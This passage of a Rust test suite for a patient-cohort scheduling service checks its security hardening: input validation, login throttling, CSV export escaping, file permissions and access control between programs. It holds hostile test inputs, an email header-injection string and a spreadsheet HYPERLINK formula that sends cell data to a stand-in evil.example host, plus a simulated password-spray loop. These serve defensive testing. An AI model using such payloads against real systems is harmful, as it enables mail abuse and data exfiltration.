//! Issue 17: the service in a hostile world. Each test proves one defect fixed, as a
//! user (or an attacker) would notice it.

use crate::helpers::{assert_field_error, error_body, facilitator_body, spawn_app, spawn_app_with};
use crate::mail::{manual_worker, quick, scenario};
use chrono::Duration;
use serde_json::json;

const INJECTED: &str = "Ana\r\nBcc: x@evil.example";

async fn import_csv(
    app: &crate::helpers::TestApp,
    token: &str,
    program: i64,
    csv: &str,
) -> reqwest::Response {
    app.client
        .post(app.url(&format!("/api/v1/programs/{program}/patients/import")))
        .bearer_auth(token)
        .header("content-type", "text/csv")
        .body(csv.to_string())
        .send()
        .await
        .expect("sent")
}

#[tokio::test]
async fn control_characters_in_names_and_addresses_are_refused_with_the_field_named() {
    let app = spawn_app().await;
    let (program, lead) = app.program_with_lead().await;
    let patients = format!("/api/v1/programs/{program}/patients");
    for (name, email, field) in [
        (INJECTED, "ana@example.org", "name"),
        ("Ana\u{0}", "ana@example.org", "name"),
        ("Ana\u{7f}", "ana@example.org", "name"),
        ("Ana\tLima", "ana@example.org", "name"),
        ("Ana", "ana\u{0}@example.org", "email"),
        ("Ana", "ana@exa\rmple.org", "email"),
    ] {
        let response = app
            .post(
                &patients,
                &lead,
                &json!({"name": name, "email": email, "email_consent": true}),
            )
            .await;
        assert_field_error(response, field).await;
    }
    let listed = app.get_json(&patients, &lead).await;
    assert_eq!(listed["patients"], json!([]), "nothing was created");

    // A good patient cannot be renamed into a bad one either.
    let id = app
        .create_patient(&lead, program, "Ana Lima", "ana@example.org")
        .await;
    let response = app
        .patch(
            &format!("/api/v1/patients/{id}"),
            &lead,
            &json!({"name": INJECTED}),
        )
        .await;
    assert_field_error(response, "name").await;

    // CSV: a quoted field may hold a line break; a name never does.
    let csv = format!(
        "name,email,timezone,email_consent,dosed_at\n\"{INJECTED}\",bo@example.org,,true,\n"
    );
    let response = import_csv(&app, &lead, program, &csv).await;
    let body = error_body(response, 422).await;
    let lines = body["error"]["lines"].as_array().expect("lines").clone();
    assert_eq!(lines.len(), 1, "{body}");
    assert!(
        lines[0]["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("name:")),
        "{body}"
    );

    // Facilitators, programs and users.
    let mut facilitator = facilitator_body("robin@example.org");
    facilitator["name"] = json!(INJECTED);
    let response = app
        .post("/api/v1/facilitators", &app.admin_token, &facilitator)
        .await;
    assert_field_error(response, "name").await;
    let mut facilitator = facilitator_body("robin\u{1}@example.org");
    facilitator["name"] = json!("Robin");
    let response = app
        .post("/api/v1/facilitators", &app.admin_token, &facilitator)
        .await;
    assert_field_error(response, "email").await;
    let response = app
        .post(
            "/api/v1/programs",
            &app.admin_token,
            &json!({"name": "Evening\r\ngroup", "site": "Nanaimo",
                    "timezone": "America/Vancouver", "modality": "ketamine"}),
        )
        .await;
    assert_field_error(response, "name").await;
    let response = app
        .post(
            "/api/v1/users",
            &app.admin_token,
            &json!({"email": "sam@example.org", "name": "Sam\nLead", "role": "admin",
                    "password": "a long enough password"}),
        )
        .await;
    assert_field_error(response, "name").await;
}

fn outbox_rows_to(app: &crate::helpers::TestApp, patient: i64) -> Vec<cohorts::outbox::OutboxRow> {
    use cohorts::db::schema::outbox;
    use diesel::prelude::*;
    outbox::table
        .filter(outbox::recipient_type.eq("patient"))
        .filter(outbox::recipient_id.eq(patient))
        .select(cohorts::outbox::OutboxRow::as_select())
        .load(&mut *app.conn())
        .expect("rows")
}

fn rename_in_database(app: &crate::helpers::TestApp, patient: i64, name: &str) {
    use cohorts::db::schema::patients;
    use diesel::prelude::*;
    diesel::update(patients::table.find(patient))
        .set(patients::name.eq(name))
        .execute(&mut *app.conn())
        .expect("rename");
}

#[tokio::test]
async fn a_message_that_cannot_be_built_fails_visibly_and_goes_out_after_the_fix_and_a_retry() {
    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
    let s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
    let ana = s.members[0].clone();
    // Data written before validation existed, or by hand.
    rename_in_database(&app, ana.id, INJECTED);
    let worker = manual_worker(&app, quick());
    worker.pass().await.expect("pass");
    worker
        .pass()
        .await
        .expect("a second pass does not retry it");

    let rows = outbox_rows_to(&app, ana.id);
    assert_eq!(rows.len(), 1);
    let row = &rows[0];
    assert_eq!(
        row.status.as_str(),
        "failed",
        "not left in sending: {row:?}"
    );
    assert_eq!(
        row.attempts, 1,
        "a message that cannot be built is not retried"
    );
    let listed = app.get_json("/api/v1/outbox?status=failed", &s.lead).await;
    let shown = listed["outbox"][0]["last_error"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert_eq!(listed["outbox"][0]["id"], row.id);
    assert!(shown.contains("could not be built"), "readable: {shown}");
    assert!(
        !shown.contains("Ana") && !shown.contains("evil"),
        "no patient data: {shown}"
    );
    assert!(!shown.contains(&ana.email), "no patient data: {shown}");
    assert!(
        !app.mail
            .messages()
            .iter()
            .any(|m| m.to.contains(&ana.email)),
        "nothing was sent to her"
    );

    // The lead fixes the name and retries: the welcome goes out, once.
    rename_in_database(&app, ana.id, "Ana Quill");
    let response = app
        .post(
            &format!("/api/v1/outbox/{}/retry", row.id),
            &s.lead,
            &json!({}),
        )
        .await;
    assert_eq!(response.status(), 200);
    worker.pass().await.expect("pass");
    let to_ana: Vec<_> = app
        .mail
        .messages()
        .into_iter()
        .filter(|m| m.to.contains(&ana.email))
        .collect();
    assert_eq!(to_ana.len(), 1);
    assert_eq!(crate::mail::seen(&to_ana[0]).kind, "welcome");
    assert_eq!(outbox_rows_to(&app, ana.id)[0].status.as_str(), "sent");
}

/// Log lines written on this thread while `work` runs (the test runtime is
/// single-threaded, so the worker's tasks log here too).
#[derive(Clone, Default)]
struct Captured(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);

impl std::io::Write for Captured {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().expect("log lock").extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Captured {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().expect("log lock")).to_string()
    }
}

#[tokio::test]
async fn an_smtp_refusal_quoting_the_address_is_stored_logged_and_shown_without_it() {
    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
    let s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
    let ana = s.members[0].clone();
    let logs = Captured::default();
    let writer = logs.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(move || writer.clone())
        .with_max_level(tracing::Level::DEBUG)
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);
    // Every recipient of this pass is refused: her welcome and the team's assignments.
    app.mail.refuse_recipients(1000);
    let worker = manual_worker(
        &app,
        cohorts::worker::WorkerConfig {
            max_attempts: 1,
            ..quick()
        },
    );
    worker.pass().await.expect("pass");

    let listed = app.get_json("/api/v1/outbox?status=failed", &s.lead).await;
    let rows = listed["outbox"].as_array().expect("rows").clone();
    assert_eq!(rows.len(), 3, "{listed}");
    let welcome = rows
        .iter()
        .find(|r| r["kind"] == "welcome")
        .expect("her welcome failed");
    let shown = welcome["last_error"]
        .as_str()
        .expect("a reason")
        .to_string();
    assert!(
        shown.contains("550"),
        "the server's answer is kept: {shown}"
    );
    assert!(shown.contains("Recipient address rejected"), "{shown}");
    assert!(
        !shown.contains(&ana.email),
        "address in last_error: {shown}"
    );
    assert!(!shown.contains('@'), "no address at all: {shown}");
    let dashboard =
        cohorts::pages::staff::failed_mail::failed_mail(&mut app.conn(), s.program).expect("rows");
    assert_eq!(dashboard.len(), 3);
    assert!(dashboard.iter().all(|row| !row.last_error.contains('@')));
    let logged = logs.text();
    assert!(
        logged.contains("mail attempt failed"),
        "the failure is logged: {logged}"
    );
    assert!(!logged.contains(&ana.email), "address in the log: {logged}");
}

async fn login_as(
    client: &reqwest::Client,
    app: &crate::helpers::TestApp,
    email: &str,
    password: &str,
) -> reqwest::Response {
    client
        .post(app.url("/api/v1/auth/login"))
        .json(&json!({"email": email, "password": password}))
        .send()
        .await
        .expect("sent")
}

#[tokio::test]
async fn parallel_wrong_passwords_are_checked_at_most_five_times_before_the_lock() {
    // The account's own lock, alone: no limit per address.
    let app = spawn_app_with(|s| s.login_attempts_per_address = Some(0)).await;
    let program = app.create_program("Evening group").await;
    let response = app
        .post(
            "/api/v1/users",
            &app.admin_token,
            &json!({"email": "lead@example.org", "name": "Lee Lead", "role": "program_lead",
                    "password": "the right password", "program_ids": [program]}),
        )
        .await;
    assert_eq!(response.status(), 201);
    let mut attempts = tokio::task::JoinSet::new();
    for n in 0..40 {
        let client = app.client.clone();
        let url = app.url("/api/v1/auth/login");
        attempts.spawn(async move {
            client
                .post(url)
                .json(&json!({"email": "lead@example.org", "password": format!("guess {n}")}))
                .send()
                .await
                .expect("sent")
                .status()
                .as_u16()
        });
    }
    let mut statuses = Vec::new();
    while let Some(status) = attempts.join_next().await {
        statuses.push(status.expect("attempt"));
    }
    let checked = statuses.iter().filter(|s| **s == 401).count();
    let refused = statuses.iter().filter(|s| **s == 429).count();
    assert_eq!(
        checked, 5,
        "passwords checked before the lock: {statuses:?}"
    );
    assert_eq!(refused, 35, "{statuses:?}");
    // Locked: even the right password waits.
    let locked = login_as(&app.client, &app, "lead@example.org", "the right password").await;
    assert_eq!(locked.status(), 429);
    assert!(locked.headers().get("retry-after").is_some());
}

#[tokio::test]
async fn bad_logins_for_unknown_addresses_do_not_wait_for_the_write_lock() {
    if std::env::var("TEST_DATABASE_URL").is_ok_and(|url| !url.is_empty()) {
        return; // SQLite's single writer is what a login flood used to hold up.
    }
    let app = spawn_app().await;
    use diesel::connection::SimpleConnection;
    // Another writer holds SQLite's write lock (a long import, a formation commit).
    let mut writer = app.conn();
    writer.batch_execute("BEGIN IMMEDIATE").expect("write lock");
    let started = std::time::Instant::now();
    let response = login_as(&app.client, &app, "nobody@example.org", "a guess").await;
    let waited = started.elapsed();
    writer.batch_execute("ROLLBACK").expect("released");
    assert_eq!(
        response.status(),
        401,
        "refused at once, not a 500 after the busy timeout"
    );
    assert!(
        waited < std::time::Duration::from_secs(4),
        "the password check waited for the write lock: {waited:?}"
    );
}

#[tokio::test]
async fn a_flood_of_bad_logins_from_one_address_is_throttled_and_another_address_still_signs_in() {
    let app = spawn_app().await;
    let mut statuses = Vec::new();
    for n in 0..25 {
        let email = format!("spray{n}@example.org");
        statuses.push(
            login_as(&app.client, &app, &email, "Winter2025!")
                .await
                .status()
                .as_u16(),
        );
    }
    assert_eq!(&statuses[..20], &[401; 20][..], "{statuses:?}");
    assert_eq!(&statuses[20..], &[429; 5][..], "{statuses:?}");
    let throttled = login_as(&app.client, &app, "spray0@example.org", "again").await;
    let retry_after: i64 = throttled
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok())
        .expect("Retry-After header");
    assert!(retry_after >= 1, "{retry_after}");
    error_body(throttled, 429).await;

    // A colleague on another address is not locked out by the flood.
    let elsewhere = reqwest::Client::builder()
        .local_address(std::net::IpAddr::from([127, 0, 0, 2]))
        .build()
        .expect("client");
    let (email, password) = ("lead@example.org", "the right password");
    let program = app.create_program("Evening group").await;
    let response = app
        .post(
            "/api/v1/users",
            &app.admin_token,
            &json!({"email": email, "name": "Lee Lead", "role": "program_lead",
                    "password": password, "program_ids": [program]}),
        )
        .await;
    assert_eq!(response.status(), 201);
    assert_eq!(
        login_as(&elsewhere, &app, email, password).await.status(),
        200
    );
}

/// Signs in on the staff pages; returns the `Cookie` header value of the session.
async fn staff_session(app: &crate::helpers::TestApp, email: &str, password: &str) -> String {
    let form = app
        .client
        .get(app.url("/staff/login"))
        .send()
        .await
        .expect("login form");
    let login_cookie = form
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("cohorts_login="))
        .and_then(|v| v.split(';').next())
        .expect("login cookie")
        .to_string();
    let html = form.text().await.expect("html");
    let csrf = html
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("csrf field")
        .to_string();
    let signed_in = app
        .client
        .post(app.url("/staff/login"))
        .header("cookie", login_cookie)
        .form(&[
            ("email", email),
            ("password", password),
            ("csrf", &csrf),
            ("next", "/staff"),
        ])
        .send()
        .await
        .expect("sign in");
    assert_eq!(signed_in.status(), 303, "staff sign-in");
    signed_in
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("cohorts_session="))
        .and_then(|v| v.split(';').next())
        .expect("session cookie")
        .to_string()
}

#[tokio::test]
async fn report_csv_cells_never_start_a_formula_and_are_not_cached() {
    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
        "+1 Plus",
        "-2 Minus",
        "@SUM(A1)",
        "Plain Name",
    ];
    let placeholders: Vec<String> = (0..names.len()).map(|n| format!("Member {n}")).collect();
    let people: Vec<(&str, Option<&str>, bool)> = placeholders
        .iter()
        .map(|n| (n.as_str(), None, true))
        .collect();
    let s = scenario(&app, Duration::days(3), &people).await;
    for (member, name) in s.members.iter().zip(names) {
        let response = app
            .patch(
                &format!("/api/v1/patients/{}", member.id),
                &s.lead,
                &json!({"name": name}),
            )
            .await;
        assert_eq!(
            response.status(),
            200,
            "a name may start with any printable character"
        );
    }
    let api = app
        .get(
            &format!(
                "/api/v1/programs/{}/attendance-report?format=csv",
                s.program
            ),
            &s.lead,
        )
        .await;
    assert_eq!(api.status(), 200);
    let api_cache = api
        .headers()
        .get("cache-control")
        .map(|v| v.to_str().unwrap_or_default().to_string());
    let api_csv = api.text().await.expect("csv");

    let lead_email = "sheet.lead@example.org";
    let response = app
        .post(
            "/api/v1/users",
            &app.admin_token,
            &json!({"email": lead_email, "name": "Sheet Lead", "role": "program_lead",
                    "password": "a long enough password", "program_ids": [s.program]}),
        )
        .await;
    assert_eq!(response.status(), 201);
    let cookie = staff_session(&app, lead_email, "a long enough password").await;
    let page = app
        .client
        .get(app.url(&format!("/staff/programs/{}/report.csv", s.program)))
        .header("cookie", cookie)
        .send()
        .await
        .expect("staff csv");
    assert_eq!(page.status(), 200);
    let page_cache = page
        .headers()
        .get("cache-control")
        .map(|v| v.to_str().unwrap_or_default().to_string());
    let page_csv = page.text().await.expect("csv");

    for (which, csv, cache) in [
        ("API", &api_csv, api_cache),
        ("staff", &page_csv, page_cache),
    ] {
        assert_eq!(cache.as_deref(), Some("no-store"), "{which} CSV cached");
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let header = reader.headers().expect("header").clone();
        let name_at = header
            .iter()
            .position(|h| h == "name")
            .expect("name column");
        let held_at = header
            .iter()
            .position(|h| h == "held")
            .expect("held column");
        let mut seen = Vec::new();
        for record in reader.records() {
            let record = record.expect("row");
            let name = record.get(name_at).expect("name").to_string();
            assert!(
                !name.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{which}: a formula cell {name:?}"
            );
            let held = record.get(held_at).expect("held");
            assert!(
                held.parse::<i64>().is_ok(),
                "numbers stay numbers: {held:?}"
            );
            seen.push(name);
        }
        seen.sort();
        let mut expected: Vec<String> = names
            .iter()
            .map(|n| {
                if n.starts_with(['=', '+', '-', '@']) {
                    format!("'{n}")
                } else {
                    n.to_string()
                }
            })
            .collect();
        expected.sort();
        assert_eq!(seen, expected, "{which}: every name, readable");
    }
}

#[cfg(unix)]
#[tokio::test]
async fn the_database_its_wal_and_the_eml_outbox_are_private_to_the_service_user() {
    use std::os::unix::fs::PermissionsExt;
    if std::env::var("TEST_DATABASE_URL").is_ok_and(|url| !url.is_empty()) {
        return; // Files of SQLite and of the file transport.
    }
    let app = spawn_app_with(|s| {
        s.database_url = format!("sqlite://{}", s.data_dir.join("cohorts.db").display());
        s.smtp_url = None;
    })
    .await;
    let _s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
    let data = app.settings.data_dir.clone();
    let outbox = data.join("outbox");
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let emls = loop {
        let found: Vec<std::path::PathBuf> = std::fs::read_dir(&outbox)
            .map(|entries| {
                entries
                    .filter_map(|e| e.ok().map(|e| e.path()))
                    .filter(|p| p.extension().is_some_and(|x| x == "eml"))
                    .collect()
            })
            .unwrap_or_default();
        if found.len() >= 3 || std::time::Instant::now() > deadline {
            break found;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert_eq!(emls.len(), 3, "her welcome and the team's two assignments");
    let mode = |path: &std::path::Path| {
        std::fs::metadata(path)
            .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
            .permissions()
            .mode()
            & 0o777
    };
    assert_eq!(mode(&data), 0o700, "data directory");
    assert_eq!(mode(&outbox), 0o700, "outbox directory");
    for eml in &emls {
        assert_eq!(mode(eml), 0o600, "{}", eml.display());
    }
    for file in ["cohorts.db", "cohorts.db-wal", "cohorts.db-shm"] {
        assert_eq!(mode(&data.join(file)), 0o600, "{file}");
    }
}

fn assert_patient_page_headers(response: &reqwest::Response, what: &str) {
    let header = |name: &str| {
        response
            .headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string)
            .unwrap_or_else(|| panic!("{what}: no {name}"))
    };
    let csp = header("content-security-policy");
    assert!(csp.contains("frame-ancestors 'none'"), "{what}: {csp}");
    assert!(csp.contains("default-src 'none'"), "{what}: {csp}");
    assert!(
        !csp.contains("script-src"),
        "{what}: no script may run: {csp}"
    );
    assert_eq!(header("referrer-policy"), "no-referrer", "{what}");
    assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
}

#[tokio::test]
async fn patient_pages_cannot_be_framed_leak_no_referrer_and_are_not_sniffed() {
    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
    let s = scenario(&app, Duration::days(3), &[("Ana Quill", None, true)]).await;
    manual_worker(&app, quick()).pass().await.expect("pass");
    let welcome = crate::mail::of_kind(&app.mail, "welcome")
        .into_iter()
        .next()
        .expect("her welcome");
    assert_eq!(welcome.envelope_to, vec![s.members[0].email.clone()]);
    let path = welcome.link_path();
    let page = app.client.get(app.url(&path)).send().await.expect("page");
    assert_eq!(page.status(), 200);
    assert_patient_page_headers(&page, "session page");
    let answered = app
        .client
        .post(app.url(&format!("{path}/rsvp")))
        .header("Content-Type", "application/x-www-form-urlencoded")
        .body("response=yes")
        .send()
        .await
        .expect("rsvp");
    assert_eq!(answered.status(), 200);
    assert_patient_page_headers(&answered, "rsvp answer");
    let unsubscribe_path = welcome
        .list_unsubscribe
        .as_deref()
        .and_then(|v| v.split("/p/").nth(1))
        .map(|rest| format!("/p/{}", rest.trim_end_matches('>')))
        .expect("unsubscribe link");
    let form = app
        .client
        .get(app.url(&unsubscribe_path))
        .send()
        .await
        .expect("form");
    assert_eq!(form.status(), 200);
    assert_patient_page_headers(&form, "unsubscribe form");
    let bad = app
        .client
        .get(app.url("/p/not-a-real-link"))
        .send()
        .await
        .expect("bad");
    assert!(bad.status().is_client_error());
    assert_patient_page_headers(&bad, "a bad link");
    let nowhere = app
        .client
        .get(app.url("/p/a/b/c"))
        .send()
        .await
        .expect("nowhere");
    assert_eq!(nowhere.status(), 404);
}

#[tokio::test]
async fn with_a_metrics_token_set_metrics_need_it_even_from_loopback() {
    let token = "a-metrics-token-for-prometheus-0123456789";
    let app = spawn_app_with(|s| s.metrics_token = Some(token.into())).await;
    let scrape = |authorization: Option<String>| {
        let mut request = app.client.get(app.url("/metrics"));
        if let Some(value) = authorization {
            request = request.header("authorization", value);
        }
        request.send()
    };
    let anonymous = scrape(None).await.expect("sent");
    error_body(anonymous, 401).await;
    let wrong = scrape(Some("Bearer not-the-token".into()))
        .await
        .expect("sent");
    error_body(wrong, 401).await;
    // A user's API token is not the metrics token.
    let user = scrape(Some(format!("Bearer {}", app.admin_token)))
        .await
        .expect("sent");
    error_body(user, 401).await;
    let right = scrape(Some(format!("Bearer {token}"))).await.expect("sent");
    assert_eq!(right.status(), 200);
    let text = right.text().await.expect("text");
    assert!(text.contains("cohorts_outbox_depth"), "{text}");
}

#[tokio::test]
async fn bad_input_is_a_clear_4xx_never_a_500() {
    let app = spawn_app().await;
    let (program, lead) = app.program_with_lead().await;
    // A NUL byte (PostgreSQL refuses it in text) in a name, an address, a query.
    let response = app
        .post(
            &format!("/api/v1/programs/{program}/patients"),
            &lead,
            &json!({"name": "Ana\u{0}Lima", "email": "ana@example.org", "email_consent": true}),
        )
        .await;
    assert_field_error(response, "name").await;
    let response = app.get("/api/v1/audit?entity=%00&id=1", &lead).await;
    assert_field_error(response, "entity").await;
    let response = app.get("/api/v1/outbox?status=sent%00", &lead).await;
    assert_field_error(response, "status").await;
    let login = login_as(&app.client, &app, "admin\u{0}@localhost", "a guess").await;
    assert_eq!(login.status(), 401);

    // 40,000 member ids: more than a cohort can ever hold, refused before any query.
    let members: Vec<i64> = (1..=40_000).collect();
    let response = app
        .post(
            "/api/v1/cohorts",
            &lead,
            &json!({"program_id": program, "members": members,
                    "first_session_at": "2030-01-08T18:00:00-08:00",
                    "override_reason": "a big group"}),
        )
        .await;
    let body = assert_field_error(response, "members").await;
    assert!(
        body["error"]["fields"]["members"]
            .as_str()
            .is_some_and(|m| m.contains("40")),
        "{body}"
    );

    // A control character in the sign-in form's `next`: signed in, sent to /staff.
    let form = app
        .client
        .get(app.url("/staff/login"))
        .send()
        .await
        .expect("form");
    let login_cookie = form
        .headers()
        .get_all("set-cookie")
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find(|v| v.starts_with("cohorts_login="))
        .and_then(|v| v.split(';').next())
        .expect("login cookie")
        .to_string();
    let html = form.text().await.expect("html");
    let csrf = html
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .expect("csrf")
        .to_string();
    let email = "next.lead@example.org";
    let response = app
        .post(
            "/api/v1/users",
            &app.admin_token,
            &json!({"email": email, "name": "Next Lead", "role": "program_lead",
                    "password": "a long enough password", "program_ids": [program]}),
        )
        .await;
    assert_eq!(response.status(), 201);
    for next in ["/staff\u{1}x", "/staff/\u{0}", "/staff\u{7f}"] {
        let signed_in = app
            .client
            .post(app.url("/staff/login"))
            .header("cookie", login_cookie.clone())
            .form(&[
                ("email", email),
                ("password", "a long enough password"),
                ("csrf", &csrf),
                ("next", next),
            ])
            .send()
            .await
            .expect("sign in");
        assert_eq!(signed_in.status(), 303, "next = {next:?}");
        assert_eq!(
            signed_in
                .headers()
                .get("location")
                .and_then(|v| v.to_str().ok()),
            Some("/staff")
        );
    }
}

/// A therapist or nurse (by `credential`) free on Tuesdays, serving `programs`.
fn pool_member(email: &str, credential: &str, programs: &[i64]) -> serde_json::Value {
    let mut body = facilitator_body(email);
    body["credentials"] = json!([credential]);
    body["availability"] = json!([{"weekday": "tue", "start": "08:00", "end": "22:00"}]);
    body["program_ids"] = json!(programs);
    body
}

fn ids_in(listed: &serde_json::Value) -> Vec<i64> {
    listed["facilitators"]
        .as_array()
        .expect("facilitators")
        .iter()
        .filter_map(|f| f["id"].as_i64())
        .collect()
}

#[tokio::test]
async fn a_lead_reads_changes_and_staffs_only_facilitators_of_their_own_programs() {
    let app = spawn_app().await;
    let (program_a, lead_a) = app.program_with_lead().await;
    let (program_b, lead_b) = app.program_with_lead().await;

    // Lead B registers B's pair; they may name only B.
    let created = app
        .post(
            "/api/v1/facilitators",
            &lead_b,
            &pool_member("b-therapist@example.org", "therapist", &[program_b]),
        )
        .await;
    assert_eq!(created.status(), 201);
    let created: serde_json::Value = created.json().await.expect("json");
    assert_eq!(created["program_ids"], json!([program_b]));
    let therapist = created["id"].as_i64().expect("id");
    let nurse: serde_json::Value = app
        .post(
            "/api/v1/facilitators",
            &lead_b,
            &pool_member("b-nurse@example.org", "nurse", &[program_b]),
        )
        .await
        .json()
        .await
        .expect("json");
    let nurse = nurse["id"].as_i64().expect("id");
    error_body(
        app.post(
            "/api/v1/facilitators",
            &lead_b,
            &pool_member("sneak@example.org", "nurse", &[program_a]),
        )
        .await,
        403,
    )
    .await;
    assert_field_error(
        app.post(
            "/api/v1/facilitators",
            &lead_b,
            &facilitator_body("nowhere@example.org"),
        )
        .await,
        "program_ids",
    )
    .await;

    // Lead A neither lists, reads nor changes B's facilitators.
    let listed = app.get_json("/api/v1/facilitators", &lead_a).await;
    assert_eq!(ids_in(&listed), Vec::<i64>::new(), "{listed}");
    assert!(!listed.to_string().contains("b-therapist@example.org"));
    let path = format!("/api/v1/facilitators/{therapist}");
    error_body(app.get(&path, &lead_a).await, 404).await;
    for change in [
        json!({"email": "lead-a@example.org"}),
        json!({"active": false}),
        json!({"program_ids": [program_a]}),
    ] {
        error_body(app.patch(&path, &lead_a, &change).await, 404).await;
    }
    let unchanged = app.get_json(&path, &app.admin_token).await;
    assert_eq!(unchanged["email"], "b-therapist@example.org");
    assert_eq!(unchanged["active"], true);
    assert_eq!(unchanged["program_ids"], json!([program_b]));
    // Lead B and the admin see them.
    assert_eq!(
        ids_in(&app.get_json("/api/v1/facilitators", &lead_b).await),
        vec![therapist, nurse]
    );
    assert_eq!(
        ids_in(&app.get_json("/api/v1/facilitators", &app.admin_token).await),
        vec![therapist, nurse]
    );

    // Program A's cohort is staffed only from A's pool: empty, so formation leaves gaps,
    // and a hand-set team of B's facilitators is refused, even with a reason.
    app.waitlist(&lead_a, program_a, 4, 3).await;
    let formed = app.form(&lead_a, program_a, false).await;
    assert_eq!(formed.status(), 201);
    let formed: serde_json::Value = formed.json().await.expect("json");
    let cohort = formed["cohorts"][0]["id"].as_i64().expect("cohort");
    assert_eq!(
        formed["cohorts"][0]["staffing"]["complete"], false,
        "{formed}"
    );
    let team_path = format!("/api/v1/cohorts/{cohort}/facilitators");
    let outsiders = json!({
        "facilitators": [
            {"facilitator_id": therapist, "role": "lead"},
            {"facilitator_id": nurse, "role": "co_facilitator"}
        ],
        "override_reason": "short of staff"
    });
    let refused = app
        .request(
            reqwest::Method::PUT,
            &team_path,
            Some(&lead_a),
            Some(&outsiders),
        )
        .await;
    assert_field_error(refused, "facilitators[0].facilitator_id").await;
    let restaffed = app
        .post(
            &format!("/api/v1/cohorts/{cohort}/staffing"),
            &lead_a,
            &json!({}),
        )
        .await;
    let restaffed: serde_json::Value = restaffed.json().await.expect("json");
    assert_eq!(restaffed["facilitators"], json!([]), "{restaffed}");

    // The admin lets the pair serve A as well: now A staffs with them.
    for id in [therapist, nurse] {
        let response = app
            .patch(
                &format!("/api/v1/facilitators/{id}"),
                &app.admin_token,
                &json!({"program_ids": [program_a, program_b]}),
            )
            .await;
        assert_eq!(response.status(), 200);
    }
    let staffed = app
        .request(
            reqwest::Method::PUT,
            &team_path,
            Some(&lead_a),
            Some(&outsiders),
        )
        .await;
    assert_eq!(staffed.status(), 200);
    // A cohort of B's staffed by the pair too; when lead A deactivates the therapist,
    // lead A hears only of A's cohort losing coverage.
    app.waitlist(&lead_b, program_b, 4, 3).await;
    let formed_b: serde_json::Value = app
        .form(&lead_b, program_b, false)
        .await
        .json()
        .await
        .expect("json");
    let cohort_b = formed_b["cohorts"][0]["id"].as_i64().expect("cohort");
    assert_eq!(
        formed_b["cohorts"][0]["staffing"]["complete"], true,
        "{formed_b}"
    );
    let deactivated = app.patch(&path, &lead_a, &json!({"active": false})).await;
    assert_eq!(deactivated.status(), 200);
    let deactivated: serde_json::Value = deactivated.json().await.expect("json");
    assert_eq!(deactivated["cohorts_losing_coverage"], json!([cohort]));
    let view_b = app
        .get_json(&format!("/api/v1/cohorts/{cohort_b}"), &lead_b)
        .await;
    assert_eq!(
        view_b["staffing"]["complete"], false,
        "B's lead sees the gap"
    );
    // Lead A sees only A among the programs, and cannot drop B.
    let seen = app.get_json(&path, &lead_a).await;
    assert_eq!(seen["program_ids"], json!([program_a]));
    let kept = app
        .patch(
            &path,
            &lead_a,
            &json!({"program_ids": [], "name": "Robin T."}),
        )
        .await;
    assert_eq!(kept.status(), 200);
    let after = app.get_json(&path, &app.admin_token).await;
    assert_eq!(after["program_ids"], json!([program_b]), "B stays");
    error_body(
        app.patch(
            &format!("/api/v1/facilitators/{nurse}"),
            &lead_a,
            &json!({"program_ids": [program_b]}),
        )
        .await,
        403,
    )
    .await;

    // Program B's lead sees every change to their facilitator in their audit log.
    let log = app
        .get_json(
            &format!("/api/v1/audit?entity=facilitator&id={therapist}"),
            &lead_b,
        )
        .await;
    let entries = log["entries"].as_array().expect("entries");
    let actions: Vec<&str> = entries
        .iter()
        .filter_map(|e| e["action"].as_str())
        .collect();
    assert_eq!(
        actions,
        vec!["update", "update", "update", "create"],
        "{log}"
    );
    assert!(
        entries.iter().all(|e| e["program_id"] == program_b),
        "{log}"
    );
    assert_eq!(entries[0]["changed_fields"], json!(["name", "program_ids"]));
}

async fn form_post(app: &crate::helpers::TestApp, path: &str, body: &str) -> reqwest::Response {
    app.client
        .post(app.url(path))
        .header("Content-Type", "application/x-www-form-urlencoded")
        .body(body.to_string())
        .send()
        .await
        .expect("post")
}

#[tokio::test]
async fn a_withdrawn_members_old_session_link_shows_a_friendly_page_and_records_no_answer() {
    let app = spawn_app_with(|s| s.worker_enabled = Some(false)).await;
    let s = scenario(
        &app,
        Duration::days(3),
        &[("Ana Quill", None, true), ("Ben Rowan", None, true)],
    )
    .await;
    manual_worker(&app, quick()).pass().await.expect("pass");
    let ben = &s.members[1];
    let welcome = crate::mail::of_kind(&app.mail, "welcome")
        .into_iter()
        .find(|m| m.envelope_to == vec![ben.email.clone()])
        .expect("Ben's welcome");
    let path = welcome.link_path();
    let page = app.client.get(app.url(&path)).send().await.expect("page");
    assert_eq!(page.status(), 200, "a member's link works");
    assert!(page
